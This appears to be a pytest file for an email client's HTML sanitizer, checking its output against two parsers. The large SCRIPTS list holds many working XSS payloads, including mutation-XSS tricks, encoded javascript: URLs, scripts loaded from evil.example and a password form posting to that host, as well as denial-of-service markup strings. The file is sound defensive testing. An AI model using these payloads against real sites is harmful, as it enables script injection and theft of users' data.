"""Hostile and real HTML, judged by what two other parsers make of the result: html.parser and lexbor."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
import tinycss2
from hypothesis import given, settings
from hypothesis import strategies as st
from resiliparse.parse.html import HTMLTree

from mailcore import limits
from mailcore.message import display, encode, sanitize, tidy
from tests.messages import corpus

ATTRIBUTES = {name for names in sanitize._ATTRIBUTES.values() for name in names} | {"target", "rel"}
OURS = "https://mail.example.org/part/"


def cid_url(cid: str) -> str | None:
    return OURS + cid if cid.isalnum() else None


def cleaned(html: str, *, remote: bool = False) -> sanitize.Cleaned:
    return sanitize.clean(html, allow_remote=remote, cid_url=cid_url)


class View(HTMLParser):
    """Every element, attribute and text of html, as the standard library reads it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def urls(self) -> list[str]:
        named = (
            "href",
            "src",
            "background",
            "srcset",
            "poster",
            "action",
            "data",
            "xlink:href",
            "longdesc",
            "cite",
        )
        found = [attrs[name] for _, attrs in self.elements for name in named if name in attrs]
        sheets = [attrs["style"] for _, attrs in self.elements if "style" in attrs]
        return found + [url for sheet in sheets for url in css_urls(sheet)]


def css_urls(css: str) -> list[str]:
    found, todo = [], list(tinycss2.parse_component_value_list(css))
    while todo:
        token = todo.pop()
        if token.type == "url":
            found.append(token.value)
        elif token.type == "function":
            if token.lower_name in {
                "url",
                "src",
                "image",
                "image-set",
                "-webkit-image-set",
                "attr",
                "expression",
            }:
                found.append(tinycss2.serialize(token.arguments).strip("\"' "))
            todo += token.arguments
        elif getattr(token, "content", None):
            todo += token.content
    return found


def lexbor(html: str) -> list[tuple[str, dict[str, str]]]:
    """The same from a browser's tree construction, where mutation would show."""
    tree = HTMLTree.parse(f"<!doctype html><html><head></head><body>{html}</body></html>")
    elements = tree.body.query_selector_all("*")
    return [(e.tag.lower(), {name: e.getattr(name) or "" for name in e.attrs}) for e in elements]


def assert_safe(html: str, *, remote: bool = False) -> None:
    view = View(html)
    assert not view.other, view.other
    for elements in (view.elements, lexbor(html)):
        for tag, attrs in elements:
            assert tag in tidy.TAGS | {"style", "tbody"}, tag
            assert not set(attrs) - ATTRIBUTES, attrs
            if tag == "a" and "href" in attrs:
                assert attrs["target"] == "_blank"
                assert attrs["rel"] == "noopener noreferrer nofollow"
    for url in view.urls() + css_urls("".join(sheets(html))):
        assert re.match(
            r"https?://|mailto:|tel:|data:image/(png|jpe?g|gif|webp);base64,[\w+/=]*$", url, re.IGNORECASE
        ), url
    if not remote:
        for tag, attrs in view.elements:
            pictures = [attrs.get("src"), attrs.get("background"), *css_urls(attrs.get("style", ""))]
            for url in pictures:
                assert url is None or url.startswith((OURS, "data:image/")), (tag, url)
        assert all(url.startswith((OURS, "data:image/")) for url in css_urls("".join(sheets(html))))


def sheets(html: str) -> list[str]:
    return re.findall(r"<style>(.*?)</style>", html, re.DOTALL)


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert("XSS")</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>hi",
    "<body background=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",  # noqa: E501
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>",
    "<table><td><style></td></table><img src=x onerror=alert(1)></style>",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript\x00:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:[code]'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "<a href='blob:https://mail.example.org/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:abc'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/accounts/logout'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='https:evil'>x</a>",
    "<a href='http:///evil'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) ping='http://evil.example' download>x</a>",
    "<a href='https://ok.example' target=_self rel=opener>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,x'>",
    "<img src='data:image/png,notbase64'>",
    "<img src='data:image/png;base64,AAAA\"onerror=alert(1)'>",
    "<img src='cid:&quot;onerror=alert(1)'>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)' src>",
    "<input type=image src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password type=password><button formaction=javascript:1>x</button>",  # noqa: E501
    "<isindex type=image src=1 onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object type=text/html data='https://evil.example'><embed src=x></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zy8+' type='image/svg+xml'>",
    "<applet code=x codebase=http://evil.example></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'><base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</div>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background:\\75rl(javascript:alert(1))'>x</div>",
    "<div style='b\\61ckground:u\\72 l(\"jav\\61script:alert(1)\")'>x</div>",
    "<div style='background:url(data:image/svg+xml,x)'>x</div>",
    "<div style='color:red;}</style><script>alert(1)</script>'>x</div>",
    "<style>a{color:red}</style ><img src=x onerror=alert(1)>",
    "<style>a{content:'</style><script>alert(1)</script>'}</style>",
    "<style>a[title='</style><img src=x onerror=alert(1)>']{color:red}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{-moz-binding:url(http://evil.example)}</style>",
    "<style><!-- a{color:expression(alert(1))} --></style>",
    "<style>a{color:red</style><script>alert(1)</script>",
    "<style>\\3c/style>\\3cscript>{color:red}</style>",
    "<style type=text/css><script>alert(1)</script></style>",
    "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p id=x tabindex=0 onfocus=alert(1)>x</p>",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x><custom-element is=x onclick=alert(1)>",
    '<a href=https://a.example/"onmouseover=alert(1)">x</a>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    "\x00<\x00script\x00>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<div hx-get=/delete data-x=y x-on:click=alert(1)>x</div>",
    "<plaintext><script>alert(1)</script>",
    "</body></html><script>alert(1)</script>",
    "<image src=x onerror=alert(1)>",
    "<map><area href=javascript:alert(1)></map><img usemap=#x src=cid:a>",
    "<ruby><rt><svg><style></style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("html", SCRIPTS)
@pytest.mark.parametrize("simple_tags", [1000, 0], ids=["as it is", "balanced"])
def test_leaves_nothing_that_runs(html: str, simple_tags: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "HTML_SIMPLE_TAGS", simple_tags)
    for given_html in (
        html,
        html if "&" in html else html.upper(),
        f"<div>{html}",
        f"<p>x</p>{html}<p>x</p>",
    ):
        for remote in (False, True):
            assert_safe(cleaned(given_html, remote=remote).html, remote=remote)


TRACKERS = [
    '<img src="http://t.example/p.gif" width=1 height=1>',
    '<IMG SRC="HTTPS://t.example/p.gif">',
    '<img src="//t.example/p.gif">',
    '<img src="\\\\t.example/p.gif">',
    '<img src="/\\t.example/p.gif">',
    '<img src=" https://t.example/p.gif">',
    '<img src="ht\ntps://t.example/p.gif">',
    '<img src="https:&#x2f;&#x2f;t.example/p.gif">',
    '<image src="https://t.example/p.gif">',
    '<img srcset="https://t.example/p.gif 2x">',
    '<img src="cid:a" srcset="//t.example/p.gif 2x, cid:b">',
    '<table background="https://t.example/p.gif"><tr><td>x</table>',
    '<table><tr><td background="https://t.example/p.gif">x</table>',
    '<body background="https://t.example/p.gif" style="background:url(https://t.example/b.gif)">x',
    '<div style="background:url(https://t.example/p.gif)">x</div>',
    "<div style=\"background-image: URL('https://t.example/p.gif')\">x</div>",
    '<div style="background:#fff url(https://t.example/p.gif) no-repeat">x</div>',
    '<div style="background:u\\72l(https://t.example/p.gif)">x</div>',
    '<div style="background:url(&#34;https://t.example/p.gif&#34;)">x</div>',
    '<div style="list-style-image:url(//t.example/p.gif)">x</div>',
    "<style>div{background:url(https://t.example/p.gif)}</style><div>x</div>",
    "<style>@media screen{div{background:url(https://t.example/p.gif)}}</style><div>x</div>",
]


@pytest.mark.parametrize("html", TRACKERS)
def test_keeps_remote_pictures_out_and_says_so(html: str) -> None:
    result = cleaned(html)
    assert result.has_remote
    assert "t.example" not in result.html
    assert_safe(result.html)


@pytest.mark.parametrize(
    "html",
    [
        '<link rel="stylesheet" href="https://t.example/x.css">',
        '<link rel="dns-prefetch" href="//t.example">',
        "<style>@import url(https://t.example/x.css);</style>",
        "<style>@import 'https://t.example/x.css' screen;</style>",
        "<style>@font-face{font-family:x;src:url(https://t.example/x.woff)}</style>",
        "<style>@namespace url(https://t.example)</style>",
        "<style>@supports (color:red){a{background:url(https://t.example/x)}}</style>",
        "<style>a{cursor:url(https://t.example/x),auto}</style>",
        "<style>a{content:url(https://t.example/x)}</style>",
        "<style>a{border-image:url(https://t.example/x) 1}</style>",
        "<style>a{background:image-set('https://t.example/x' 1x)}</style>",
        "<style>a{background:-webkit-image-set(url(https://t.example/x) 1x)}</style>",
        "<style>a{background:src('https://t.example/x')}</style>",
        "<style>a{--x:url(https://t.example/x);background:var(--x)}</style>",
        "<style>a{filter:url(https://t.example/x);mask:url(https://t.example/x)}</style>",
        "<style>a{background:url(https://t.example/x</style>",
        '<div style="cursor:url(https://t.example/x)">x</div>',
        '<div style="background:/**/url(/**/https://t.example/p.gif)">x</div>',
        '<div style="--x:url(https://t.example/x)">x</div>',
        '<div style="color:url(https://t.example/x)">x</div>',
        '<video poster="https://t.example/x.gif" src="https://t.example/x.mp4"></video>',
        '<audio src="https://t.example/x.mp3" autoplay></audio>',
        '<picture><source srcset="https://t.example/x.webp"><img src="cid:a"></picture>',
        '<iframe src="https://t.example/"></iframe>',
        '<object data="https://t.example/"></object>',
        '<embed src="https://t.example/">',
        '<input type="image" src="https://t.example/x.gif">',
        '<svg><image href="https://t.example/x.gif"/><use href="https://t.example/x.svg#a"/></svg>',
        '<meta http-equiv="refresh" content="0;url=https://t.example/">',
        '<base href="https://t.example/"><img src="p.gif">',
        '<q cite="https://t.example/">x</q><blockquote cite="https://t.example/">x</blockquote>',
        '<bgsound src="https://t.example/x.wav">',
        '<frameset><frame src="https://t.example/"></frameset>',
        '<script src="https://t.example/x.js"></script>',
        '<html manifest="https://t.example/x"><head profile="https://t.example/">',
        '<p><!-- <img src="https://t.example/x.gif"> --></p>',
    ],
)
def test_never_lets_anything_else_out(html: str) -> None:
    for remote in (False, True):
        result = cleaned(html, remote=remote)
        assert "t.example" not in result.html
        assert_safe(result.html, remote=remote)


def test_lets_remote_pictures_in_when_asked() -> None:
    html = (
        "<img src='http://t.example/a.gif?x=1&amp;y=2'><img src='//t.example/b.gif'>"
        "<td background='x'></td><table background='HTTPS://t.example/c.gif'><tr><td>x</table>"
        "<div style='color:red;background:#fff url(https://t.example/d.gif) no-repeat'>x</div>"
    )
    result = sanitize.clean(
        html, allow_remote=True, cid_url=cid_url, remote_url=lambda url: f"/proxy?u={url}"
    )
    assert result.has_remote
    urls = View(result.html).urls()
    assert urls == [
        "/proxy?u=http://t.example/a.gif?x=1&y=2",
        "/proxy?u=https://t.example/b.gif",
        "/proxy?u=https://t.example/c.gif",
        "/proxy?u=https://t.example/d.gif",
    ]


def test_drops_a_picture_the_proxy_will_not_fetch() -> None:
    result = sanitize.clean(
        "<img src='http://10.0.0.1/x'>", allow_remote=True, cid_url=cid_url, remote_url=lambda url: None
    )
    assert View(result.html).urls() == []


def test_maps_pictures_of_the_mail_itself() -> None:
    result = cleaned(
        "<img src='cid:abc'><img src='CID:%61bc'><img src='cid:no/such'><div style='background:url(cid:abc)'>"
    )
    assert View(result.html).urls() == [OURS + "abc"] * 3
    assert not result.has_remote


def test_keeps_small_pictures_written_in_place() -> None:
    for kind in ("png", "jpeg", "jpg", "gif", "webp"):
        url = f"data:image/{kind};base64,iVBORw0KGgo="
        result = cleaned(f"<img src='{url}'>")
        assert View(result.html).urls() == [url]
        assert not result.has_remote


def styles(html: str) -> list[str]:
    return [attrs["style"] for _, attrs in View(cleaned(html).html).elements if "style" in attrs]


@pytest.mark.parametrize(
    ("given_style", "kept"),
    [
        ("color: red; font-size:12px", "color:red;font-size:12px"),
        ("COLOR:Red !IMPORTANT", "color:Red !important"),
        ("position:fixed;top:0;left:0;z-index:9;color:red", "color:red"),
        ("position:absolute", ""),
        ("behavior:url(#x);-moz-binding:url(x);color:red", "color:red"),
        ("background:#fff url(http://t.example/x) no-repeat", "background:#fff none no-repeat"),
        ("background:#fff url('http://t.example/x')", "background:#fff none"),
        ("color:expression(alert(1));width:1px", "width:1px"),
        ("width:calc(100% - 2px)", "width:calc(100% - 2px)"),
        ("color:rgba(1,2,3,.5)", "color:rgba(1,2,3,.5)"),
        ("margin:0 auto;margin-left:-5px;padding-top:1em", "margin:0 auto;margin-left:-5px;padding-top:1em"),
        ("border-bottom:1px solid #ccc;border-radius:4px", "border-bottom:1px solid #ccc;border-radius:4px"),
        ("font-family:'Segoe UI', Arial", 'font-family:"Segoe UI", Arial'),
        ("color:red;}b{color:blue", "color:red"),
        ("color:var(--x);--x:red", ""),
        ("animation:x 1s;transition:all 1s;transform:scale(99)", ""),
        ("filter:progid:DXImageTransform.Microsoft.Alpha(x)", ""),
        ("mso-line-height-rule:exactly;line-height:20px", "line-height:20px"),
        ("width:1px;/* comment */height:2px", "width:1px;height:2px"),
        ("color:@x;height:2px", "height:2px"),
        ("content:attr(title)", ""),
        ("color", ""),
        ("", ""),
    ],
)
def test_filters_style_attributes(given_style: str, kept: str) -> None:
    assert styles(f'<p style="{given_style}">x</p>') == ([kept] if kept else [])


def test_filters_style_elements() -> None:
    html = (
        "<html><head><style type='text/css'><!--\n"
        "@import url(x.css); @font-face{font-family:x;src:url(x)}\n"
        'p.a > b, #c:hover, [title~="x"] {color:red;position:fixed}\n'
        "@media only screen and (max-width: 600px) { .w {width:100% !important} .z{z-index:3} }\n"
        "@media print { @media screen { p{color:blue} } }\n"
        "p{}\n"
        "--></style></head><body><p class=a id=c>x</p></body></html>"
    )
    sheet = "".join(sheets(cleaned(html).html))
    rules = [
        (r.type, tinycss2.serialize(r.prelude).strip(), re.sub(r"\s", "", tinycss2.serialize(r.content)))
        for r in tinycss2.parse_stylesheet(sheet, skip_whitespace=True)
    ]
    assert rules == [
        ("qualified-rule", 'p.a > b, #c:hover, [title~="x"]', "color:red"),
        ("at-rule", "only screen and (max-width: 600px)", ".w{width:100%!important}"),
    ]
    tags = dict(View(cleaned(html).html).elements)
    assert tags["p"] == {"class": "a", "id": "c"}


def test_does_not_let_a_style_element_end_early() -> None:
    html = "<style>a[title='\\3c/style>\\3cimg src=x>'], b{font-family:'\\3c/style>'}</style>"
    result = cleaned(html).html
    assert result.count("<") == 2
    assert_safe(result)


def test_keeps_what_mail_is_made_of() -> None:
    html = (
        "<table border=0 cellpadding=0 cellspacing=0 width='100%' bgcolor=#ffffff><tbody><tr valign=top>"
        "<td colspan=2 align=center width=50% style='padding:3px'><font face=Arial size=2 color=red>Hi</font>"
        "<br clear=all><a href='https://a.example/?a=1&amp;b=2' title=t>link</a><a href=mailto:x@example.org>m</a>"  # noqa: E501
        "<img src=cid:a alt=A width=3 height=4 border=0></td></tr></tbody></table>"
        "<ol start=3 type=a><li value=3>x</ol><h1>h</h1><blockquote type=cite>q</blockquote><pre>p</pre>"
        "<p dir=rtl lang=he>x</p><center>c</center><hr size=1><sub>1</sub><s>s</s><span>sp</span>"
    )
    elements = View(cleaned(html).html).elements
    found = dict(elements)
    assert found["table"] == {
        "border": "0", "cellpadding": "0", "cellspacing": "0", "width": "100%", "bgcolor": "#ffffff"
    }  # fmt: skip
    assert found["td"] == {"colspan": "2", "align": "center", "width": "50%", "style": "padding:3px"}
    assert found["font"] == {"face": "Arial", "size": "2", "color": "red"}
    assert [a["href"] for tag, a in elements if tag == "a"] == [
        "https://a.example/?a=1&b=2",
        "mailto:x@example.org",
    ]
    assert found["ol"] == {"start": "3", "type": "a"}
    assert found["blockquote"] == {"type": "cite"}
    assert found["p"] == {"dir": "rtl", "lang": "he"}


def test_keeps_the_colours_of_the_body() -> None:
    result = cleaned(
        '<html><body bgcolor="#000" text=white style="margin:0" onload=x><p>Hi</p></body></html>'
    )
    assert View(result.html).elements == [
        ("div", {"style": "background-color:#000;color:white;margin:0"}),
        ("p", {}),
    ]
    assert_safe(cleaned('<body bgcolor=\'red"><script>\' text="a;b" class="<script>">x').html)


def test_drops_text_that_is_not_for_people() -> None:
    html = "<title>t</title>a<script>b</script><style>c</style><textarea>d</textarea><svg>e</svg><!-- f -->g<object>h</object>"  # noqa: E501
    assert View(cleaned(html).html).text == "ag"


def test_keeps_the_text_of_unknown_elements() -> None:
    assert (
        View(cleaned("<form>a<o:p>b</o:p><button>c</button><details>d</details></form>").html).text == "abcd"
    )


def test_cuts_what_is_too_long_and_says_so() -> None:
    result = cleaned("<p>" + "x" * limits.HTML_OCTETS)
    assert result.is_cut
    assert len(result.html) <= limits.HTML_OCTETS + 100
    result = cleaned("<p>x</p>" * limits.HTML_TAGS)
    assert result.is_cut
    assert 0 < result.html.count("<p>") <= limits.HTML_TAGS
    assert not cleaned("<p>x</p>" * 100).is_cut


HEAVY = {
    "deep div": lambda n: "<div>" * n,
    "unclosed b": lambda n: "".join(f"<b id={i}>" for i in range(n)),
    "cloned b": lambda n: "<p>" + "".join(f"<b id={i}>" for i in range(n // 2)) + "<div>x</div>" * (n // 4),
    "cloned in small": lambda n: "<p>" + "".join(f"<b id={i}>" for i in range(450)) + "<div>x" * 450,
    "cells": lambda n: "<table>" + "".join(f"<b id={i}>" for i in range(n // 2)) + "<tr>x" * (n // 4),
    "misnested": lambda n: "<b><i><u></b>" * n,
    "lists": lambda n: "<ul><li>" * n,
    "links": lambda n: "<a href=x><div>" * n,
    "tables": lambda n: "<table><tr><td>" * n,
    "ignored ends": lambda n: "<div><table></div></table>" * n,
    "comments": lambda n: "<!--" * n,
    "comment ends": lambda n: "<!-->" * n,
    "styles": lambda n: "<style>" * n,
    "style ends": lambda n: "<style></style>" * n,
    "svg": lambda n: "<svg>" * n,
    "open quotes": lambda n: '<a href="' * n,
    "other quotes": lambda n: "<a b='\">" * n,
    "many attributes": lambda n: "<a" + " a=b" * n + ">",
    "spaces": lambda n: "<a " + " " * n * 4 + "=" * n,
    "lt": lambda n: "<" * n,
    "ampersands": lambda n: "&" * n + "&lt;" * n,
    "css": lambda n: "<style>" + "a{color:red}" * n + "</style>",
    "css brackets": lambda n: "<style>" + "(" * n + "</style><p style='" + "[" * 4000 + "'>",
    "css open": lambda n: "<style>" + "a{" * n + "</style>",
    "different styles": lambda n: "".join(f"<p style='color:red;width:{i}px'>" for i in range(n)),
    "bodies": lambda n: "<body " * n,
    "data": lambda n: "<img src='data:image/png;base64," + "A" * n * 10 + "!'>",
    "template": lambda n: "<template>" * n,
    "select": lambda n: "<select><option>" * n,
    "headings": lambda n: "<h1>" * n,
}


@pytest.mark.parametrize("name", HEAVY)
def test_takes_bounded_time(name: str) -> None:
    html = HEAVY[name](60_000)
    start = time.process_time()
    result = cleaned(html)
    spent = time.process_time() - start
    assert spent < 30, f"{name}: {spent:.2f} s for {len(html)} characters"
    assert len(result.html) < 10 * limits.HTML_OCTETS


@pytest.mark.parametrize("name", HEAVY)
def test_balances_heavy_markup_in_bounded_time(name: str) -> None:
    start = time.process_time()
    balanced = tidy.balance(tidy.lift(HEAVY[name](60_000)).html)
    assert time.process_time() - start < 20
    depth = deepest = 0
    for slash, tag in re.findall(r"<(/?)([a-z0-9]+)", balanced):
        depth += 0 if tag in tidy.VOID else -1 if slash else 1
        deepest = max(deepest, depth)
    assert depth == 0
    assert deepest <= limits.HTML_DEPTH


_soup = st.lists(
    st.sampled_from(
        "<div> </div> <b> </b> <p> </p> <table> </table> <tr> <td> </td> <li> <ul> </ul> <a href=x> </a> <style> </style> "  # noqa: E501
        "<!-- --> <svg> </svg> <script> </script> <img src=//x.example onerror=y> <title> </title> text &lt; \" ' > < / "  # noqa: E501
        "<select> <math> <noscript> </noscript> <textarea> <h1> </h1> <body bgcolor=red> <template> <iframe> </iframe> = "  # noqa: E501
        "<font style='background:url(//x.example)'> <x onload=y a='> <mtext> <mglyph> <form> </form> </br> <caption>".split(  # noqa: E501
            " "
        )
    ),
    max_size=40,
).map(" ".join)


@settings(max_examples=400, deadline=None)
@given(_soup, st.booleans())
def test_is_safe_on_any_soup(html: str, balance: bool) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(limits, "HTML_SIMPLE_TAGS", 0 if balance else 1000)
        assert_safe(cleaned(html).html)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_never_raises(text: str) -> None:
    assert_safe(cleaned(text).html)
    sanitize.linkify(text)


def test_cleans_every_real_mail() -> None:
    found = [html for path in corpus() if (html := display.read(encode.crlf(path.read_bytes())).html)]
    assert len(found) > 10
    for html in found:
        for remote in (False, True):
            result = cleaned(html, remote=remote)
            assert_safe(result.html, remote=remote)
            assert not result.is_cut
            assert View(result.html).text.strip() or not View(html).text.strip()


def test_accepts_lone_surrogates() -> None:
    assert "?" in cleaned("<p>\ud800</p>").html


@settings(max_examples=200, deadline=None)
@given(_soup)
def test_is_stable(html: str) -> None:
    """Cleaning what is clean changes nothing that a parser sees."""
    once = cleaned(html).html
    assert View(cleaned(once).html).elements == View(once).elements


# --- Plain text


def links(text: str) -> list[tuple[str, str]]:
    tree = HTMLTree.parse(sanitize.linkify(text))
    return [(a.getattr("href"), a.text) for a in tree.body.query_selector_all("a")]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (
            "see https://a.example/x?y=1&z=2.",
            [("https://a.example/x?y=1&z=2", "https://a.example/x?y=1&z=2")],
        ),
        ("(http://a.example/b_(c))", [("http://a.example/b_(c)", "http://a.example/b_(c)")]),
        ("<http://a.example>", [("http://a.example", "http://a.example")]),
        ("www.example.org, ok", [("http://www.example.org", "www.example.org")]),
        ("mail bob@example.org!", [("mailto:bob@example.org", "bob@example.org")]),
        ("javascript:alert(1) data:text/html,x ftp://x.example", []),
        ("http://a.example/\u202egpj.exe", [("http://a.example/", "http://a.example/")]),
        ('http://a.example/"onmouseover="alert(1)', [("http://a.example/", "http://a.example/")]),
        ("no@where and @foo", []),
        ("xhttp://a.example", []),
    ],
)
def test_makes_links(text: str, found: list[tuple[str, str]]) -> None:
    assert links(text) == found


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab<>&\"'/:. @\n\rhtps%w-\u202e", max_size=120))
def test_shows_exactly_the_text(text: str) -> None:
    html = sanitize.linkify(text)
    view = View(html)
    assert {tag for tag, _ in view.elements} <= {"div", "a"}
    lines = re.split(r"\r\n|\r|\n", text)
    assert view.text.replace("\n", "") == "".join(re.sub(r"^(> ?){1,50}", "", line) for line in lines)


def test_marks_quotes_and_signature() -> None:
    html = sanitize.linkify("Hi\r\n> one\r\n>> two\r\n> > two\r\n\r\nme\r\n-- \r\nBob\r\n")
    view = View(html)
    assert [attrs["class"] for tag, attrs in view.elements if tag == "div"] == [
        "quote-0", "quote-1", "quote-2", "quote-0", "quote-0 signature",
    ]  # fmt: skip
    assert "two\ntwo" in html


@pytest.mark.parametrize(
    "text",
    ["a." * 200_000, "a@" * 200_000, "http://" * 50_000, ">" * 400_000, "(" * 200_000 + ")" * 200_000,
     "http://a/" + ")" * 400_000, "www." * 100_000, "a-" * 200_000 + "@" + "b." * 100_000, "\n" * 400_000],
    ids=range(9),
)  # fmt: skip
def test_makes_links_in_bounded_time(text: str) -> None:
    start = time.process_time()
    sanitize.linkify(text)
    assert time.process_time() - start < 20
